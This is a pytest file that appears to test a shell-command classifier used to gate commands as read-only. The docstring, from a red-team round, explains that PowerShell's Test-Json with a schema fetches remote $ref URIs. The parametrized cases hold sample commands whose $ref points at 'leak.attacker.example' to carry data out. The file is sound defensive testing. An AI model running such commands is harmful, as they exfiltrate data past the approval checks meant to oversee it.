"""Red team, round 16 (classifier): PowerShell ``Test-Json`` with a schema fetches its ``$ref`` URIs.

``Test-Json`` was a read-only cmdlet with any arguments. PowerShell 7.4's TestJsonCommand sets
JsonSchema.Net's ``SchemaRegistry.Global.Fetch`` to a function that GETs ``http``/``https``
references with an ``HttpClient`` and reads ``file`` references (``File.ReadAllText``). So
``Test-Json -Json '{}' -Schema '{"$ref":"https://<what was read>.attacker.example/x"}'`` sends a
request the command chooses (and a schema file in a hostile repository can hold such a ``$ref``),
unasked in default mode. A schema comes by ``-Schema``/``-SchemaFile`` (any prefix PowerShell binds)
or by position after the document; such a call is now not read-only. Analysis only: no pwsh here.
"""

from __future__ import annotations

import pytest

from shellrt.analysis import analyze

_REF = """'{"$ref":"https://leak.attacker.example/x"}'"""


@pytest.mark.parametrize(
    "command",
    [
        f"Test-Json -Json '{{}}' -Schema {_REF}",
        f"Test-Json '{{}}' {_REF}",
        f"Test-Json -Json '{{}}' -Sch {_REF}",
        f"Test-Json -Json '{{}}' -s {_REF}",
        f"Test-Json -Json:'{{}}' {_REF}",
        f"Test-Json -Json '{{}}' -Schema:{_REF}",
        "Test-Json -Path data.json -SchemaFile schema.json",
        "Test-Json -Path data.json schema.json",
        "Test-Json -LiteralPath data.json -SchemaF schema.json",
        "Get-Content data.json -Raw | Test-Json -SchemaFile schema.json",
        "Test-Json -Json $j $s",
        f"Write-Output (Test-Json '{{}}' {_REF})",
    ],
)
def test_a_schema_is_not_read_only(command: str) -> None:
    analysis = analyze(command, "powershell")
    assert not analysis.read_only, analysis.reasons
    assert any("Schema" in reason for reason in analysis.reasons), analysis.reasons


@pytest.mark.parametrize(
    "command",
    [
        "Test-Json -Json '{}'",
        "Test-Json '{}'",
        "Test-Json -Path data.json",
        "Test-Json -Path:data.json",
        "Test-Json -LiteralPath data.json -ErrorAction SilentlyContinue",
        "Get-Content data.json -Raw | Test-Json",
        "Test-Json -Json '{}' -Options IgnoreComments",
    ],
)
def test_validation_without_a_schema_stays_read_only(command: str) -> None:
    analysis = analyze(command, "powershell")
    assert analysis.read_only, (command, analysis.reasons)
